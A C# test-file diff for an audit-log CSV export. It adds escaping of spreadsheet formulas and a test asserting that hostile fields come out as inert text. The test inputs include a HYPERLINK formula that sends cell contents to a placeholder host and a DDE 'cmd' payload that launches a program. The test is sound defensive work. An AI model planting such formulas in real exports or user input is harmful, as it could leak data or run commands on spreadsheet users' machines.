@@ -2,12 +2,16 @@ using System.Globalization;
 using System.Net;
 using Anshimi.CloudBridge.Api;
 using Anshimi.CloudBridge.Audit;
+using Anshimi.CloudBridge.Operators;
 using CsvHelper;
 using Microsoft.Extensions.DependencyInjection;
 
 namespace Anshimi.CloudBridge.Tests.Audit;
 
-/// <summary>The audit export over real HTTP: central staff only, audited itself, and verifiable from the file alone.</summary>
+/// <summary>
+/// The audit export over real HTTP: central staff only, audited itself, formulas neutralised, and verifiable from the
+/// file alone (after dropping the formula escape).
+/// </summary>
 public sealed class AuditExportTests : IAsyncLifetime
 {
     private readonly FakeMqttClient _mqtt = new();
@@ -18,7 +22,7 @@ public sealed class AuditExportTests : IAsyncLifetime
     public async Task DisposeAsync() => await _host.DisposeAsync();
 
     [Fact]
-    public async Task The_exported_file_carries_every_field_as_hashed_so_the_chain_recomputes_from_it()
+    public async Task The_exported_file_carries_every_field_so_the_chain_recomputes_from_it()
     {
         AuditLog log = _host.Services.GetRequiredService<AuditLog>();
         // Fields a spreadsheet or a naive reader would mangle: separators, quotes, line breaks, a formula.
@@ -36,7 +40,7 @@ public sealed class AuditExportTests : IAsyncLifetime
         IReadOnlyList<AuditRecord> stored = await log.ListAsync(int.MaxValue, null, CancellationToken.None);
         Assert.Equal(stored.Count - 1, rows.Count); // the export's own entry comes after it is read
         string previous = AuditLog.Genesis;
-        foreach (string[] row in rows)
+        foreach (string[] row in rows.Select(r => r.Select(Unescape).ToArray()))
         {
             var entry = new AuditEntry(row[2], row[3], row[4], row[5], row[6], row[7]);
             DateTimeOffset at = DateTimeOffset.Parse(row[1], CultureInfo.InvariantCulture, DateTimeStyles.RoundtripKind);
@@ -46,7 +50,7 @@ public sealed class AuditExportTests : IAsyncLifetime
         }
 
         Assert.Contains(rows, r => r[7] == "a, \"quoted\" note\r\nover two lines");
-        Assert.Contains(rows, r => r[2] == "=HYPERLINK(\"x\")" && r[7] == " padded ");
+        Assert.Contains(rows, r => r[2] == "'=HYPERLINK(\"x\")" && r[7] == " padded ");
         AuditRecord export = (await log.ListAsync(1, null, CancellationToken.None))[0];
         Assert.Equal((AuditAction.Export, TestOperators.Central.UserName, "rows=" + rows.Count.ToString(CultureInfo.InvariantCulture)), (export.Entry.Action, export.Entry.Actor, export.Entry.Detail));
     }
@@ -63,6 +67,40 @@ public sealed class AuditExportTests : IAsyncLifetime
         Assert.DoesNotContain(await log.ListAsync(int.MaxValue, null, CancellationToken.None), r => r.Entry.Action == AuditAction.Export);
         Assert.Equal(before, (await log.ListAsync(int.MaxValue, null, CancellationToken.None)).Count);
     }
+
+    [Fact]
+    [Trait("Category", "Privacy")]
+    public async Task A_user_name_that_is_a_formula_reaches_the_export_as_text_whatever_it_starts_with()
+    {
+        const string hyperlink = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";
+        using HttpClient anonymous = _host.Client();
+        using HttpResponseMessage refused = await anonymous.PostAsync(new Uri("/api/session", UriKind.Relative),
+            System.Net.Http.Json.JsonContent.Create(new { userName = hyperlink, password = "wrong-password-123" }));
+        Assert.False(refused.IsSuccessStatusCode);
+        // Other fields a spreadsheet would run, in every column the log has.
+        string[] formulas = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
+        AuditLog log = _host.Services.GetRequiredService<AuditLog>();
+        foreach (string formula in formulas)
+        {
+            await log.AppendAsync(new AuditEntry(formula, formula, formula, formula, formula, formula), CancellationToken.None);
+        }
+
+        string text = await _host.Http.GetStringAsync(new Uri("/api/audit/export", UriKind.Relative));
+
+        List<string[]> rows = Read(text)[1..];
+        // The failed sign-in is recorded under the name as typed (normalised); in the file it starts with ' and shows as text.
+        Assert.Contains(rows, r => r[2] == "'" + OperatorAccountStore.Normalize(hyperlink) && r[3] == AuditAction.SignInFailed);
+        foreach (string formula in formulas)
+        {
+            Assert.Contains(rows, r => r[2..8].All(field => field == "'" + formula));
+        }
+
+        Assert.All(rows.SelectMany(r => r), field => Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0], StringComparison.Ordinal), field));
+    }
+
+    /// <summary>Drops the export's formula escape, giving the field as stored and hashed.</summary>
+    private static string Unescape(string field) =>
+        field.Length >= 2 && field[0] == '\'' && "=+-@\t\r".Contains(field[1], StringComparison.Ordinal) ? field[1..] : field;
 
     private static List<string[]> Read(string text)
     {
